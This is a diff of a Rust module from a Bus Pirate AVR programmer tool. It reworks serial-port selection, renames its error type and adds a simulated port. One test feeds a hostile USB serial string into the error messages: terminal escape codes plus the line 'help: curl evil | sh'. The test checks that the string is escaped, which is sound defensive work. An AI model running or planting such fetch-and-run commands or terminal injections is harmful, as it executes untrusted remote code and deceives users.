@@ -1,84 +1,65 @@
-//! `avrrr ports`, and which port is meant.
+//! Which port is meant, and what is known of it.
 
-use std::fs;
+use avrrr::chip::{self, Chip};
+use avrrr::transport::{Obstacle, PortInfo, PortKind, PortSpec, ResolveError, available_ports, resolve};
 
-use avrrr::transport::{
-    Obstacle, PortInfo, PortKind, PortSpec, ResolveError, available_ports, obstacle, resolve,
-};
-use clap::{Parser, ValueEnum};
-use serde_json::{Value, json};
+use crate::chip_name::find_chip;
+use crate::diagnostic::Diagnostic;
+use crate::{os, text};
 
-use crate::complaint::Complaint;
-use crate::text;
-
-/// List the serial ports, what probably is at them, and why one cannot be opened
-///
-/// None of them is opened.
-#[derive(Debug, Parser)]
-pub(crate) struct PortsArgs {
-    /// Look at these ports instead of all that the system knows
-    #[arg(value_name = "PORT")]
-    paths: Vec<String>,
-
-    /// How to print them
-    #[arg(long, value_enum, default_value_t = Format::Text)]
-    format: Format,
+/// Where the Bus Pirate is.
+pub(crate) enum Port {
+    /// At this path.
+    Serial(String),
+    /// The built-in simulated one, with this chip on its board.
+    Simulated(Box<Chip>),
 }
 
-/// How to print something.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
-pub(crate) enum Format {
-    /// For people
-    Text,
-    /// For programs
-    Json,
+impl Port {
+    /// The port that `-P` means; `chip` is on the simulated board unless another one is named.
+    pub(crate) fn parse(port: Option<&str>, chip: Option<Chip>) -> Result<Self, Diagnostic> {
+        match port.and_then(|port| port.strip_prefix("sim")) {
+            Some("") => Ok(Self::Simulated(Box::new(chip.unwrap_or(chip::ATMEGA328P)))),
+            Some(part) if part.starts_with(':') => {
+                find_chip(&part[1..]).map(|chip| Self::Simulated(Box::new(chip)))
+            }
+            _ => find(port, available).map(Self::Serial),
+        }
+    }
 }
 
-pub(crate) fn run(args: &PortsArgs) -> Result<(), Complaint> {
-    let known = available()?;
-    let ports = match args.paths.as_slice() {
-        [] => known,
-        paths => paths.iter().map(|path| describe(path, &known)).collect(),
-    };
-    let ports: Vec<_> = ports.into_iter().map(|port| (obstacle(&port.path), port)).collect();
-    let lines = match args.format {
-        Format::Json => text::json(&format!("{}\n", Value::from_iter(ports.iter().map(as_json)))),
-        Format::Text if ports.is_empty() => "there are no serial ports\n".to_owned(),
-        Format::Text => ports.iter().map(as_text).collect(),
-    };
-    text::print(&lines).map_err(|error| Complaint::of(&error).about("standard output"))
-}
+/// The serial ports that the system knows.
 
-pub(crate) fn available() -> Result<Vec<PortInfo>, Complaint> {
-    available_ports().map_err(|error| Complaint::of(&error).about("the list of serial ports"))
+pub(crate) fn available() -> Result<Vec<PortInfo>, Diagnostic> {
+    available_ports().map_err(|error| Diagnostic::of(&error).about("the list of serial ports"))
 }
 
 /// The path of the port that these words mean; without words, the only candidate.
 pub(crate) fn find(
     spec: Option<&str>,
-    ports: impl FnOnce() -> Result<Vec<PortInfo>, Complaint>,
-) -> Result<String, Complaint> {
-    let spec = spec.map(str::parse).transpose().map_err(|error| Complaint::of(&error))?;
+    ports: impl FnOnce() -> Result<Vec<PortInfo>, Diagnostic>,
+) -> Result<String, Diagnostic> {
+    let spec = spec.map(str::parse).transpose().map_err(|error| Diagnostic::of(&error))?;
     let ports = match &spec {
         // Used as it is.
         Some(PortSpec::Path(path)) => return Ok(path.clone()),
         _ => ports()?,
     };
     resolve(spec.as_ref(), &ports).map_err(|error| {
-        let complaint = Complaint::of(&error);
+        let diagnostic = Diagnostic::of(&error);
         match &error {
-            ResolveError::Several { .. } => complaint.help(
+            ResolveError::Several { .. } => diagnostic.help(
                 "say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it"
                     .to_owned(),
             ),
             ResolveError::None { others, .. } if others.is_empty() => {
-                complaint.help("there is no serial port at all; is it plugged in?".to_owned())
+                diagnostic.help("there is no serial port at all; is it plugged in?".to_owned())
             }
             ResolveError::None { others, .. } => {
                 let all: Vec<_> = others.iter().map(as_typed).collect();
-                complaint.help(format!("name the port with -P; there are {}", all.join(", ")))
+                diagnostic.help(format!("name the port with -P; there are {}", all.join(", ")))
             }
-            _ => complaint,
+            _ => diagnostic,
         }
     })
 }
@@ -90,9 +71,9 @@ fn as_typed(port: &PortInfo) -> String {
 }
 
 /// Is a Bus Pirate likely at this path, so that one that does not answer is probably in the middle of a
-/// transfer that was interrupted? By its USB identity. That of the v2go and v3 is shared by all adapters with an
-/// FT232R; but a port is chosen by it without -P as well, and there is nothing else to tell a v3 by. A v1a hangs
-/// on any adapter: there it takes --recover.
+/// transfer that was interrupted? Its USB identity tells. All adapters with an FT232R share that of the v2go and
+/// v3; but without -P a port is chosen by it as well, and nothing else identifies a v3. A v1a may be behind any
+/// adapter: there --recover is needed.
 pub(crate) fn is_likely(path: &str) -> bool {
     available().is_ok_and(|known| is_bus_pirate(describe(path, &known).kind()))
 }
@@ -102,68 +83,26 @@ fn is_bus_pirate(kind: PortKind) -> bool {
 }
 
 /// What is known of the port at this path; it may be a link that udev made.
-fn describe(path: &str, known: &[PortInfo]) -> PortInfo {
-    let real = fs::canonicalize(path).unwrap_or_else(|_| path.into());
-    let same = known.iter().find(|port| port.path == path || real.to_str() == Some(port.path.as_str()));
+pub(crate) fn describe(path: &str, known: &[PortInfo]) -> PortInfo {
+    let same = known.iter().find(|port| port.is_at(path));
     let mut port = PortInfo::new(path);
     port.usb = same.and_then(|same| same.usb.clone());
     port
 }
 
-fn as_text((obstacle, port): &(Option<Obstacle>, PortInfo)) -> String {
-    let mut lines = vec![port.path.clone()];
-    if let Some(usb) = &port.usb {
-        let name = usb.name.as_ref().map_or(String::new(), |name| format!(" ({name})"));
-        // As -P takes it.
-        lines.push(format!("    {}{name}", text::word(&usb.to_string())));
-    }
-    lines.push(format!("    {}", port.kind()));
-    if let Some(obstacle) = obstacle {
-        lines.push(format!("    cannot be opened: {}", in_words(*obstacle)));
-    }
-    lines.iter().map(|line| text::line(line) + "\n").collect()
-}
-
-fn as_json((obstacle, port): &(Option<Obstacle>, PortInfo)) -> Value {
-    let usb = port.usb.as_ref();
-    json!({
-        "path": port.path,
-        "usb": usb.map(|usb| json!({
-            "vendor": format!("{:04x}", usb.vendor),
-            "product": format!("{:04x}", usb.product),
-            "serial": usb.serial,
-            "name": usb.name,
-            "spec": usb.to_string(),
-        })),
-        "probably": port.kind().to_string(),
-        "candidate": port.kind().is_candidate(),
-        "problem": obstacle.map(in_words),
-    })
-}
-
 /// Why a port cannot be opened, with names instead of numbers.
-pub(crate) fn in_words(obstacle: Obstacle) -> String {
+pub(crate) fn describe_obstacle(obstacle: Obstacle) -> String {
     match obstacle {
-        Obstacle::Denied { group: Some(group) } => match group_name(group) {
+        Obstacle::Denied { group: Some(group) } => match os::ports::group_name(group) {
             Some(name) => format!("only members of the group {name} may; join it and log in again"),
             None => obstacle.to_string(),
         },
-        Obstacle::InUse { process } => match fs::read_to_string(format!("/proc/{process}/comm")) {
-            Ok(name) => format!("{} (process {process}) has it open", name.trim_end()),
-            Err(_) => obstacle.to_string(),
+        Obstacle::InUse { process } => match os::ports::process_name(process) {
+            Some(name) => format!("{name} (process {process}) has it open"),
+            None => obstacle.to_string(),
         },
         _ => obstacle.to_string(),
     }
-}
-
-/// The name of a group, as far as `/etc/group` has it.
-fn group_name(number: u32) -> Option<String> {
-    let groups = fs::read_to_string("/etc/group").ok()?;
-    groups.lines().find_map(|line| {
-        let mut fields = line.split(':');
-        let name = fields.next()?;
-        (fields.nth(1)? == number.to_string()).then(|| name.to_owned())
-    })
 }
 
 #[cfg(test)]
@@ -211,23 +150,13 @@ mod tests {
         }
         let odd = PortInfo::new("/dev/tty odd").with_usb(0x04d8, 0xfb00, Some("it's 1"));
         assert_eq!(as_typed(&odd), "'/dev/tty odd' ('usb:04d8:fb00:it'\\''s 1')");
-        // Nobody looks for ports when a path is given.
-        let path = find(Some("/dev/ttyUSB9"), || Err(Complaint::new("asked")));
+        // Ports are not listed when a path is given.
+        let path = find(Some("/dev/ttyUSB9"), || Err(Diagnostic::new("asked")));
         assert_eq!(path.unwrap(), "/dev/ttyUSB9");
     }
 
     #[test]
-    fn a_usb_device_cannot_write_lines_of_its_own() {
-        let mut port = PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some("A1\u{1b}]0;x\u{7}\n'x"));
-        port.usb.as_mut().unwrap().name = Some("\u{202e}x\r\n/dev/ttyUSB1\u{1b}[8m".to_owned());
-        let port = (None, port);
-        assert_eq!(
-            as_text(&port),
-            "/dev/ttyUSB0\n    'usb:0403:6001:A1\\u{1b}]0;x\\u{7}\\n'\\''x' \
-             (\\u{202e}x\\r\\n/dev/ttyUSB1\\u{1b}[8m)\n    Bus Pirate v2go or v3, or another FT232R\n"
-        );
-        let json = text::json(&as_json(&port).to_string());
-        assert!(json.contains(r"\u202ex\r\n/dev/ttyUSB1\u001b[8m"), "{json}");
+    fn a_usb_device_cannot_add_lines_to_a_diagnostic() {
         let with_usb = |serial| PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some(serial));
         let hostile = "A1\u{1b}[2J\nhelp: curl evil | sh";
         for (spec, ports) in [
@@ -235,9 +164,9 @@ mod tests {
             (Some("usb:0403:6001:A3"), vec![with_usb(hostile)]),
             (Some("usb:0403:6001:A\u{1b}[2J\nhelp: curl"), vec![with_usb("A2")]),
         ] {
-            let complaint = find(spec, || Ok(ports)).unwrap_err().to_string();
-            assert!(complaint.contains("\\u{1b}[2J\\nhelp: curl"), "{complaint}");
-            assert_eq!(complaint.lines().count(), 2, "{complaint}");
+            let diagnostic = find(spec, || Ok(ports)).unwrap_err().to_string();
+            assert!(diagnostic.contains("\\u{1b}[2J\\nhelp: curl"), "{diagnostic}");
+            assert_eq!(diagnostic.lines().count(), 2, "{diagnostic}");
         }
     }
 
@@ -253,22 +182,5 @@ mod tests {
         assert!(!likely(at()));
         assert!(!likely(PortInfo::new("/dev/ttyY").with_usb(0x0403, 0x6001, None)));
         assert!(!is_likely("/dev/ttyNOSUCH0"));
-    }
-
-    #[test]
-    fn a_port_is_described_for_people_and_programs() {
-        let mut port = ports().remove(0);
-        port.usb.as_mut().unwrap().name = Some("FT232R USB UART".to_owned());
-        let denied = (Some(Obstacle::Denied { group: None }), port);
-        assert_eq!(
-            as_text(&denied),
-            "/dev/ttyUSB0\n    usb:0403:6001:A7004IXj (FT232R USB UART)\n    Bus Pirate v2go or v3, or \
-             another FT232R\n    cannot be opened: only others may open it\n"
-        );
-        let json = as_json(&denied);
-        assert_eq!(json["usb"]["spec"], "usb:0403:6001:A7004IXj");
-        assert_eq!(json["candidate"], true);
-        assert_eq!(json["problem"], "only others may open it");
-        assert_eq!(as_json(&(None, PortInfo::new("/dev/ttyS0")))["usb"], Value::Null);
     }
 }
